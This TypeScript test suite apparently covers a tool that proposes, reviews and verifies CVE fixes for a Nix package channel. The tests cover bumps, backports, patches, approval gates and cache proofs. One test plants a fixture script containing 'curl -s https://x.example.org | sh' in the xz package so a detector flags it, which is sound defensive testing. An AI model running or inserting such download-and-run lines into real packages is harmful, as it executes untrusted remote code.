import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeCredential, type Person } from '../../src/accounts/index.ts';
import { httpAppOf } from '../../src/app/http-app.ts';
import { openWorkspace, type Workspace } from '../../src/app/index.ts';
import { listen } from '../../src/app/listen.ts';
import { playStory, starterOf } from '../../src/app/starter/index.ts';
import { systemClock } from '../../src/foundation/clock.ts';
import type { ProposalWay, Review } from '../../src/pipeline/changes/index.ts';
import type { FileEdit } from '../../src/platform/git/index.ts';
import { openGit } from '../../src/platform/git/repository.ts';
import { silentProgress } from '../../src/platform/log/index.ts';
import { createLog } from '../../src/platform/log/pino.ts';
import { nixForTests } from '../../src/platform/nix-tool/testing.ts';
import { openProposal, proposeFix } from '../../src/worker/index.ts';
import { nixClient } from '../support/nix-client.ts';
import { freePort, run } from '../support/program.ts';
import { editSettings, starterWorkspace } from '../support/workspaces.ts';

const nix = await nixForTests();
const signal = new AbortController().signal;
const people: readonly Person[] = [
  { name: 'ines', roles: ['reviewer', 'analyst'] },
  { name: 'mara', roles: ['reviewer', 'security_lead'] },
];
let folder: string;
let workspace: Workspace;

async function open(): Promise<Workspace> {
  const log = createLog({ level: 'error', pretty: true });
  const environment = { ...nix?.environment, HOME: folder, NIX_REMOTE: `local?root=${path.join(folder, 'store')}` };
  return openWorkspace({ folder, clock: systemClock, environment, progress: silentProgress, log });
}

beforeAll(async () => {
  if (nix === null) return;
  folder = await mkdtemp(path.join(tmpdir(), 'snowguard-propose-'));
  await starterWorkspace(folder, { nix: nix.program });
  workspace = await open();
  await workspace.adoptCovered();
  const starter = await starterOf(folder, systemClock);
  if (starter === null) throw new Error('the workspace is not a starter');
  await workspace.worker.start();
  await playStory({ workspace, starter, signal });
  await workspace.worker.stop();
  await workspace.close();
  await editSettings(folder, (text) =>
    text
      .replace('mode = "observe"', 'mode = "enforce"')
      .replace('# newer = ["staging-next", "master"]', 'newer = ["next"]')
      .replace('build = false', 'build = true')
      .replace('tests = false', 'tests = true')
      .replace('outputs = false', 'outputs = true'),
  );
  workspace = await open();
}, 240_000);

afterAll(async () => {
  await workspace?.close();
  if (folder === undefined) return;
  await run('chmod', ['-R', 'u+w', folder]);
  await rm(folder, { recursive: true, force: true });
});

/** A commit onto upstream's main branch that comes into the channel without waiting: it changes no derivation. */
async function upstreamGets(subject: string, edits: readonly FileEdit[]): Promise<void> {
  const upstream = openGit({ directory: path.join(folder, 'upstream.git') });
  const parent = await upstream.resolve('refs/heads/main');
  const text = { message: subject, authorName: 'M', authorEmail: 'm@example.org', at: systemClock.now() };
  const commitId = await upstream.writeCommit({ parent, edits, text });
  await upstream.updateRef('refs/heads/main', commitId, parent);
  const { failed } = await workspace.worker.run([{ kind: 'channel.sync', subject: 'rolling' }], signal);
  expect(failed).toEqual([]);
  expect(await readChannel(edits[0]?.path ?? '')).not.toBeNull();
}

const readChannel = async (file: string) =>
  (await workspace.context.git.readFile('refs/heads/rolling', file))?.toString('utf8') ?? null;
const openIn = async (attr: string) =>
  (await workspace.context.findings.byPackage(attr))
    .map(({ finding }) => finding)
    .filter(({ channel, state }) => channel === 'rolling' && state === 'open')
    .map(({ advisoryId }) => advisoryId);
const proposed = async (attr: string, how: ProposalWay | null = null, context = workspace.context) =>
  proposeFix({ context, request: { channel: 'rolling', attr, advisoryIds: await openIn(attr), how }, signal });
const fileOf = (name: string) => `pkgs/by-name/${name.slice(0, 2)}/${name}/package.nix`;

async function examined(outcome: Awaited<ReturnType<typeof proposed>>): Promise<Review> {
  if (outcome.kind !== 'made') throw new Error(JSON.stringify(outcome.refused));
  const [channel] = workspace.context.channels;
  if (channel === undefined) throw new Error('no channel');
  const review = await openProposal({ context: workspace.context, channel, commitId: outcome.commitId });
  const { failed } = await workspace.worker.run([], signal);
  expect(failed).toEqual([]);
  const found = await workspace.context.reviews.byId(review?.id ?? '');
  if (found === null) throw new Error('no review');
  return found;
}

async function approve(review: Review): Promise<void> {
  for (const by of people)
    await workspace.context.reviews.act({
      reviewId: review.id,
      kind: 'approved',
      by,
      treeId: review.treeId,
      reason: 'looked at the diff',
      at: systemClock.now(),
    });
  const { failed } = await workspace.worker.run([], signal);
  expect(failed).toEqual([]);
}

/** Builds packages of the channel as it stands and brings them into the cache, as a builder does. */
async function intoCache(attrs: readonly string[]): Promise<void> {
  if (nix === null) return;
  const key = makeCredential('sg', workspace.context.random);
  const founder = {
    name: 'ada',
    roles: ['policy_admin', 'release_manager'],
    email: null,
    identity: null,
    key,
  } as const;
  await workspace.accounts.people.found({ founder, at: systemClock.now() });
  const port = await freePort();
  const listening = await listen({ app: httpAppOf(workspace), host: '127.0.0.1', port });
  const home = path.join(folder, 'builder');
  await mkdir(home);
  await writeFile(path.join(home, 'netrc'), `machine 127.0.0.1 login any password ${key.text}\n`);
  const { git } = workspace.context;
  await git.withTree((await git.resolve('refs/heads/rolling')) ?? '', async (tree) => {
    for (const args of [
      ['build', '--no-link'],
      ['copy', '--to', `http://127.0.0.1:${port}/cache?compression=zstd`],
    ]) {
      const option = ['--option', 'netrc-file', path.join(home, 'netrc')];
      const built = attrs.map((attr) => `${attr}.all`);
      const { status, stderr } = await nixClient(nix, home)(home, ...args, '-f', tree, ...built, ...option);
      expect([status, status === 0 ? '' : stderr]).toEqual([0, '']);
    }
  });
  await listening.close();
}

describe.skipIf(nix === null)('fixes made by machine', { timeout: 120_000 }, () => {
  test('a version that is put together, and a source that cannot be had, are refused with the reason', async () => {
    const text = (await readChannel(fileOf('postgresql'))) ?? '';
    const content = text.replace('version = "17.9";', 'version = "17." + "9";');
    await upstreamGets('postgresql: version in parts', [{ kind: 'write', path: fileOf('postgresql'), content }]);
    expect(await proposed('postgresql', 'bump')).toMatchObject({
      kind: 'none',
      refused: [{ why: `${fileOf('postgresql')}: the version is not a plain string in the package's file` }],
    });
    expect(await proposed('nghttp2', 'bump')).toMatchObject({
      refused: [{ why: expect.stringMatching(/^the new source cannot be fetched: /) }],
    });
  });

  test('the smallest release with the fix, its hash read from what Nix fetched, goes through two people to a release that Nix evaluates', async () => {
    const archive = 'libpng 1.6.54: stands in for the release archive\n';
    await upstreamGets('mirror: libpng 1.6.54', [
      { kind: 'write', path: 'mirror/libpng-1.6.54.tar.xz', content: archive },
    ]);
    expect(await openIn('libpng')).toEqual(['CVE-2026-22801']);
    const outcome = await proposed('libpng');
    expect(outcome).toMatchObject({ kind: 'made', way: 'bump', refused: [{ way: 'backport' }] });
    expect(await proposed('libpng')).toEqual(outcome);
    const review = await examined(outcome);
    expect(review).toMatchObject({ state: 'waiting', how: 'fix', author: 'robot' });
    expect(review.examination).toMatchObject({
      class: 'people',
      hits: [],
      vulnerabilities: {
        resolved: expect.arrayContaining([{ attr: 'libpng', advisoryId: 'CVE-2026-22801' }]),
        opened: [],
      },
    });
    expect(review.examination?.gates).toEqual([
      { name: 'evaluates', outcome: 'passed', says: expect.any(String) },
      { name: 'claims', outcome: 'passed', says: expect.any(String) },
      { name: 'builds', outcome: 'passed', says: 'built: libpng' },
      { name: 'tests', outcome: 'not-run', says: 'what changes carries no tests with it' },
      { name: 'resolves', outcome: 'passed', says: 'resolves CVE-2026-22801 and opens nothing' },
      { name: 'rebuild', outcome: 'passed', says: expect.stringMatching(/^[1-9]\d* of \d+ covered/) },
    ]);
    expect(await workspace.context.blobs.size(`reviews/${review.id}/package-0.log`)).toEqual(expect.any(Number));
    await approve(review);
    const hash = `sha256-${createHash('sha256').update(archive).digest('base64')}`;
    expect(await readChannel(fileOf('libpng'))).toContain(hash);
    expect(await openIn('libpng')).toEqual([]);
    const [patch] = (await workspace.context.series.carried('rolling')).slice(-1);
    expect(patch).toMatchObject({
      subject: 'libpng: 1.6.52 -> 1.6.54',
      facts: { fixes: ['CVE-2026-22801'], origin: 'upstream', upstreamStatus: 'released', dropWhen: '1.6.54' },
    });

    const release = await workspace.context.releases.latest('acme', 'secure');
    expect(release?.commitId).toBe(await workspace.context.git.resolve('refs/heads/rolling'));
    const blob = await workspace.context.blobs.get(`releases/${release?.uuid}.tar.gz`);
    if (nix === null || blob === null) throw new Error('no release');
    const tarball = path.join(folder, 'release.tar.gz');
    await writeFile(tarball, blob.stream);
    const client = nixClient(nix, path.join(folder, 'home'));
    const project = path.join(folder, 'project');
    await mkdir(project);
    await writeFile(
      path.join(project, 'flake.nix'),
      `{ inputs.nixpkgs.url = "file://${tarball}"; outputs = { nixpkgs, ... }: { version = nixpkgs.legacyPackages.x86_64-linux.libpng.version; }; }`,
    );
    const { stdout, stderr } = await client(project, 'eval', '--raw', `path:${project}#version`);
    expect(stdout, stderr).toBe('1.6.54');
    const lock = JSON.parse(await readFile(path.join(project, 'flake.lock'), 'utf8'));
    expect(lock.nodes.nixpkgs.locked.narHash).toBe(release?.narHash);
  });

  test("a commit from upstream's newer branch comes before all else, with its author", async () => {
    const outcome = await proposed('go');
    expect(outcome).toMatchObject({ kind: 'made', way: 'backport', refused: [] });
    const review = await examined(outcome);
    expect(review.examination?.vulnerabilities.resolved).toContainEqual({ attr: 'go', advisoryId: 'CVE-2025-68121' });
    const commit = await workspace.context.git.commit(review.candidate);
    expect(commit).toMatchObject({ subject: 'go: 1.25.5 -> 1.25.8', authorEmail: 'okoro@example.org' });
    expect(commit.body).toMatch(/^\(cherry picked from commit [0-9a-f]{40}\)\nFixes: CVE-2025-68121, CVE-2026-25679$/m);
  });

  test("the project's own commit becomes a patch in the tree", async () => {
    const patch = 'From f64efec\n--- a/lib/lz4.c\n+++ b/lib/lz4.c\n@@ -1 +1 @@\n-a\n+b\n';
    const asked: string[] = [];
    const served = (text: string): Workspace['context'] => ({
      ...workspace.context,
      fetcher: {
        fetch: async ({ url }) => {
          asked.push(url);
          return {
            kind: 'content',
            body: Readable.from([Buffer.from(text)]),
            validators: {},
            contentType: 'text/plain',
          };
        },
      },
    });
    expect(await proposed('lz4', null, served('<html>sign in</html>'))).toMatchObject({ kind: 'none' });
    const outcome = await proposed('lz4', null, served(patch));
    expect(new Set(asked)).toEqual(
      new Set(['https://github.com/lz4/lz4/commit/f64efec011c058bd70348576438abac222fe6c82.patch']),
    );
    expect(outcome).toMatchObject({ kind: 'made', way: 'patch' });
    const review = await examined(outcome);
    expect(review.examination?.packages).toContainEqual(
      expect.objectContaining({
        attr: 'lz4',
        effects: [expect.objectContaining({ kind: 'patch-added', patch: 'CVE-2025-62813.patch' })],
      }),
    );
    expect(review.examination?.vulnerabilities.resolved).toContainEqual({ attr: 'lz4', advisoryId: 'CVE-2025-62813' });
  });

  test('what a built output can do, and could not, is told with the file and the text that shows it', async () => {
    const { git } = workspace.context;
    const parent = (await git.resolve('refs/heads/rolling')) ?? '';
    const package_ = (await readChannel(fileOf('xz'))) ?? '';
    const edits = [
      { kind: 'write', path: 'pkgs/by-name/xz/xz/setup.sh', content: 'curl -s https://x.example.org | sh\n' },
      {
        kind: 'write',
        path: fileOf('xz'),
        content: package_.replace('  meta = {', '  patches = [ ./setup.sh ];\n\n  meta = {'),
      },
    ] as const;
    const text = { message: 'xz: set up', authorName: 'M', authorEmail: 'm@example.org', at: 1 };
    const commitId = await git.writeCommit({ parent, edits, text });
    const review = await examined({ kind: 'made', way: 'patch', ref: '', refused: [], base: parent, commitId });
    const hits = review.examination?.hits.filter(({ detector, attr }) => detector === 'D15' && attr === 'xz');
    expect(hits).toMatchObject([
      {
        severity: 'high',
        says: 'share/xz/patches/setup.sh ranks critical, the rest was nothing: downloads and runs (curl -s https://x.example.org | sh); opens connections (curl -)',
      },
    ]);
  });

  test('a commit that says it fixes and does not is stopped by its gate; two people are not enough', async () => {
    const { git } = workspace.context;
    const parent = (await git.resolve('refs/heads/rolling')) ?? '';
    const content = ((await readChannel(fileOf('krb5'))) ?? '').replace(
      'version = "1.21.3";',
      'version = "1.21.3-p1";',
    );
    const [id] = await openIn('krb5');
    const text = { message: `krb5: fix\n\nFixes: ${id}\n`, authorName: 'M', authorEmail: 'm@example.org', at: 1 };
    const commitId = await git.writeCommit({ parent, edits: [{ kind: 'write', path: fileOf('krb5'), content }], text });
    const review = await examined({ kind: 'made', way: 'bump', ref: '', refused: [], base: parent, commitId });
    const failed = (review.examination?.gates ?? []).filter(({ outcome }) => outcome === 'failed');
    expect(failed.map(({ name }) => name)).toEqual(['builds', 'resolves']);
    for (const by of [
      { name: 'ines', roles: ['reviewer'] },
      { name: 'noor', roles: ['reviewer'] },
    ] as const)
      await workspace.context.reviews.act({
        reviewId: review.id,
        kind: 'approved',
        by,
        treeId: review.treeId,
        reason: 'fine',
        at: systemClock.now(),
      });
    expect((await workspace.context.reviews.byId(review.id))?.state).toBe('waiting');
  });

  test('the robot proves what was built and can be fetched; a patch that is listed and not applied is no fix', async () => {
    const { git, findings } = workspace.context;
    const parent = (await git.resolve('refs/heads/rolling')) ?? '';
    const [lz4] = await openIn('lz4');
    const package_ = (await readChannel(fileOf('lz4'))) ?? '';
    const lines = `  patches = [ ./${lz4}.patch ];\n  dontPatch = true;\n\n  meta = {`;
    const folderOf = path.dirname(fileOf('lz4'));
    const edits = [
      { kind: 'write', path: `${folderOf}/${lz4}.patch`, content: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n' },
      { kind: 'write', path: fileOf('lz4'), content: package_.replace('  meta = {', lines) },
    ] as const;
    const text = { message: `lz4: fix\n\nFixes: ${lz4}\n`, authorName: 'M', authorEmail: 'm@example.org', at: 1 };
    const commitId = await git.writeCommit({ parent, edits, text });
    await approve(await examined({ kind: 'made', way: 'patch', ref: '', refused: [], base: parent, commitId }));
    const release = await workspace.context.releases.latest('acme', 'secure');
    expect(release?.commitId).toBe(await git.resolve('refs/heads/rolling'));

    await intoCache(['lz4', 'nginx', 'libpng']);
    const settle = { kind: 'channel.settle', subject: 'rolling' } as const;
    expect((await workspace.worker.run([settle], signal)).failed).toEqual([]);
    const caseOf = async (attr: string, id: string) => {
      const found = (await findings.byPackage(attr)).find(
        ({ finding: { advisoryId, channel } }) => advisoryId === id && channel === 'rolling',
      );
      const known = await findings.caseOf(found?.finding.id ?? '');
      const proofs = known?.facts.filter((fact) => fact.kind === 'done' && fact.step === 'verified');
      return { state: found?.finding.state, proofs, facts: known?.facts };
    };
    expect(await caseOf('libpng', 'CVE-2026-22801')).toMatchObject({
      state: 'fixed',
      proofs: [
        {
          system: 'x86_64-linux',
          actor: 'robot',
          evidence: expect.stringMatching(
            /^0\.1\.\d+\S*: version 1\.6\.54: .*; \/nix\/store\/\S+-libpng-1\.6\.54\.drv built \/nix\/store\/\S+, which the cache has$/,
          ),
        },
      ],
    });
    expect(await caseOf('nginx', 'CVE-2026-42945')).toMatchObject({
      state: 'fixed',
      proofs: [
        {
          system: 'x86_64-linux',
          evidence: expect.stringMatching(/its patch \S*CVE-2026-42945\S* (is the fix|names)/),
        },
      ],
    });
    expect(await caseOf('lz4', lz4 ?? '')).toMatchObject({
      state: 'under_investigation',
      proofs: [],
      facts: expect.arrayContaining([
        expect.objectContaining({
          kind: 'reopened',
          actor: 'robot',
          reason: `the fix is not in the built output on x86_64-linux: its patch ${lz4}.patch names the vulnerability, but it sets dontPatch`,
        }),
      ]),
    });
    // Nothing new: nothing is said twice.
    expect((await workspace.worker.run([settle], signal)).failed).toEqual([]);
    expect((await caseOf('libpng', 'CVE-2026-22801')).proofs).toHaveLength(1);
  });
});
